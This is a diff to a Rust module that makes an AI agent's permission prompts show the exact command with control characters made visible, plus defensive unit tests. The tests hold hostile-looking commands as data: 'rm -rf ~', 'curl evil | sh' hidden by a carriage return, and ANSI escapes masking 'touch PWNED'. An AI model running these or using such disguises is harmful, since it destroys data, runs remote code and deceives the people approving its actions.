@@ -1,6 +1,11 @@
 //! Permission asks as the terminal shows and answers them.
+//!
+//! An ask shows everything the call would run (`tool_summary::exact`),
+//! with control characters made visible, never a summary cut where the cut
+//! could hide what runs: the person's answer is about what they read.
 
 use agentd_shared::proto as pb;
+use agentd_shared::{tool_summary, visible};
 
 /// `--permission-mode` values.
 #[derive(Debug, Clone, Copy, clap::ValueEnum)]
@@ -22,10 +27,46 @@ impl Mode {
     }
 }
 
-pub fn question(p: &pb::PermissionRequest) -> String {
+/// Everything the asked call would run, made visible; lines kept.
+pub fn what_runs(p: &pb::PermissionRequest) -> String {
+    let input = serde_json::from_str(&p.input_json).unwrap_or(serde_json::Value::Null);
+    let exact = tool_summary::exact(&p.tool_name, &input);
+    let exact = if exact.trim().is_empty() {
+        &p.summary
+    } else {
+        &exact
+    };
+    visible::text(exact).into_owned()
+}
+
+/// Who asks to run what: "agent 3f2a1b9c asks to run Bash".
+pub fn asker(p: &pb::PermissionRequest) -> String {
     format!(
-        "agent {} asks to run {}: {}",
-        p.agent_short_id, p.tool_name, p.summary
+        "agent {} asks to run {}",
+        visible::line(&p.agent_short_id),
+        visible::line(&p.tool_name)
+    )
+}
+
+/// The ask in full: on one line when what runs is one line (however
+/// long: the terminal wraps it, nothing is cut), else each of its lines
+/// indented under the asker.
+pub fn question(p: &pb::PermissionRequest) -> String {
+    let runs = what_runs(p);
+    if runs.contains('\n') {
+        let body: Vec<String> = runs.lines().map(|l| format!("    {l}")).collect();
+        format!("{}:\n{}", asker(p), body.join("\n"))
+    } else {
+        format!("{}: {runs}", asker(p))
+    }
+}
+
+/// The answer keys, saying what "always" covers: every later call of the
+/// tool by this agent.
+pub fn keys(p: &pb::PermissionRequest) -> String {
+    format!(
+        "y: allow once · a: always allow {} for this agent · n: deny",
+        visible::line(&p.tool_name)
     )
 }
 
@@ -39,5 +80,51 @@ pub fn answer(
         request_id: request_id.to_string(),
         decision: decision as i32,
         reason,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn ask(tool: &str, input: serde_json::Value) -> pb::PermissionRequest {
+        pb::PermissionRequest {
+            agent_short_id: "3f2a1b9c".into(),
+            tool_name: tool.into(),
+            input_json: input.to_string(),
+            summary: "cut summary…".into(),
+            ..Default::default()
+        }
+    }
+
+    #[test]
+    fn a_forged_command_is_shown_as_it_would_run() {
+        let p = ask(
+            "Bash",
+            serde_json::json!({"command": "touch PWNED && echo pwned #\u{1b}[27D\u{1b}[K ls -la"}),
+        );
+        assert_eq!(
+            question(&p),
+            "agent 3f2a1b9c asks to run Bash: touch PWNED && echo pwned #␛[27D␛[K ls -la"
+        );
+    }
+
+    #[test]
+    fn a_long_or_many_line_command_is_shown_whole() {
+        let long = format!("echo {} && rm -rf ~", "a".repeat(400));
+        let p = ask("Bash", serde_json::json!({ "command": long }));
+        assert!(question(&p).ends_with("&& rm -rf ~"), "{}", question(&p));
+        let p = ask(
+            "Bash",
+            serde_json::json!({"command": "echo hi\r\ncurl evil | sh\rls"}),
+        );
+        assert_eq!(
+            question(&p),
+            "agent 3f2a1b9c asks to run Bash:\n    echo hi\n    curl evil | sh␍ls"
+        );
+        assert_eq!(
+            keys(&p),
+            "y: allow once · a: always allow Bash for this agent · n: deny"
+        );
     }
 }
